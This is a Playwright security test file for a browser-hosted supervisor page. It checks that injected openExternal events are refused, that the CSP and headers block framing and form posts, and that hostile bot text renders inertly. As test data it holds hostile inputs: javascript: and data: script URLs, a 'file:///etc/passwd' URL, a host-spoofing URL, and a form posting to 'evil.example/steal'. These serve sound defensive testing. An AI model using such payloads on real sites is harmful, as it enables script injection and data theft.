import { expect, test, type Page } from '@playwright/test';
import { hostileBot } from './electron/hostile-bot.js';
import type { BrowserHostProcess } from './support/browser-host-process.js';
import { useSupervisedPage } from './support/supervised-page.js';
import { injectInlineScript } from './support/inline-script-probe.js';

/**
 * S47 and S48 through the browser host (e2e/support/supervised-page.ts): the page opens only its
 * own provider, cannot be framed or post forms, and shows hostile bot text as text under a CSP
 * that blocks inline script.
 */
const { name: botName, description: botDescription, printedScript, printedImage } = hostileBot;

let host: BrowserHostProcess;
let page: Page;
useSupervisedPage((opened) => {
  ({ host, page } = opened);
});

/*
 * Proven by mutation: let openExternalUrl (renderer/transport/open-external-url.ts) accept any
 * http(s) URL again → the page opens https://example.invalid/… first, that popup is the one
 * awaited, and the test fails on its address (and on the popup count).
 */
test('S47 the page opens only its profiles\' own provider, in a new tab without an opener; any other popup fails the test', async ({ browser }) => {
  const issuer = /Local sandbox provider: (http:\/\/127\.0\.0\.1:\d+)/.exec(host.output())?.[1];
  expect(issuer).toBeDefined();
  const expected = `${issuer}/auth?probe=s47`;
  const issuerHost = new URL(expected).host;
  // Stand in for a compromised host: the real socket, plus openExternal events it would never send.
  const injected = [
    'javascript:window.__xss="open"',
    'file:///etc/passwd',
    'data:text/html,<script>alert(1)</script>',
    'uk.co.rpasupervisor.dev://auth/callback?code=x',
    'https://example.invalid/any-https-site',
    `http://${issuerHost}@evil.example/`,
    `http://127.0.0.1:${Number(new URL(expected).port) + 1}/auth`,
    `${new URL(host.pageUrl).origin}/`,
    // The one allowed, last: the page handles events in order, so every refusal is decided by the time it opens.
    expected,
  ];
  const context = await browser.newContext();
  const probe = await context.newPage();
  const popups: Page[] = [];
  context.on('page', (opened) => popups.push(opened));
  let injectIntoPage: (text: string) => void = () => undefined;
  let resolveConnected: () => void = () => undefined;
  const connected = new Promise<void>((resolve) => (resolveConnected = resolve));
  // Installed (awaited) before the page loads, so its first socket cannot slip past the route.
  await probe.routeWebSocket(/\/ws\?k=/, (route) => {
    const server = route.connectToServer();
    route.onMessage((message) => server.send(message));
    server.onMessage((message) => route.send(message));
    injectIntoPage = (text) => route.send(text);
    resolveConnected();
  });
  try {
    await probe.goto(host.pageUrl);
    await connected;
    await expect(probe.getByTestId('bot-xss-bot')).toBeVisible();
    const popup = context.waitForEvent('page');
    for (const url of injected) injectIntoPage(JSON.stringify({ kind: 'event', event: 'openExternal', payload: { url } }));
    const opened = await popup;
    await expect.poll(() => opened.url()).toBe(expected);
    expect(popups).toEqual([opened]);
    expect(context.pages()).toEqual([probe, opened]);
    expect(await opened.evaluate(() => window.opener)).toBeNull();
    expect(await probe.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
    expect(new URL(probe.url()).origin).toBe(new URL(host.pageUrl).origin);
  } finally {
    await context.close();
  }
});

test('S47 the page cannot be framed, post forms or change its base URL (CSP and headers)', async ({ request, browser }) => {
  const response = await request.get(new URL('/', host.pageUrl).href);
  const csp = response.headers()['content-security-policy'] ?? '';
  expect(csp).toMatch(/frame-ancestors 'none'/);
  expect(csp).toMatch(/form-action 'none'/);
  expect(csp).toMatch(/base-uri 'none'/);
  expect(response.headers()['x-frame-options']).toBe('DENY');

  // A page of its own: a refused form post leaves Chromium's navigation state unsettled.
  const probe = await browser.newPage();
  try {
    await probe.goto(host.pageUrl);
    const violation = await probe.evaluate(async () => {
      const seen = new Promise<string>((resolveSeen) => document.addEventListener('securitypolicyviolation', (event) => resolveSeen(event.effectiveDirective), { once: true }));
      const form = document.createElement('form');
      form.action = 'https://evil.example/steal';
      form.method = 'post';
      document.body.append(form);
      form.submit();
      return seen;
    });
    expect(violation).toBe('form-action');
    expect(new URL(probe.url()).origin).toBe(new URL(host.pageUrl).origin);
  } finally {
    await probe.close();
  }
});

test('S48 a bot name, description and log lines holding HTML and script render as text', async () => {
  const bot = page.getByTestId('bot-xss-bot');
  await expect(bot).toContainText(botName);
  await expect(bot).toContainText(botDescription);
  const log = page.getByTestId('run-log');
  await expect(log).toContainText(printedScript);
  await expect(log).toContainText(printedImage);
  // No element was created from any of it, and nothing ran.
  expect(await page.locator('img[src="x"]').count()).toBe(0);
  expect(await page.locator('script:not([src])').count()).toBe(0);
  expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
});

test('S48 the CSP blocks inline script, even one injected into the DOM', async () => {
  const result = await injectInlineScript(page);
  expect(result).toEqual({ directive: 'script-src-elem', ran: false });
});
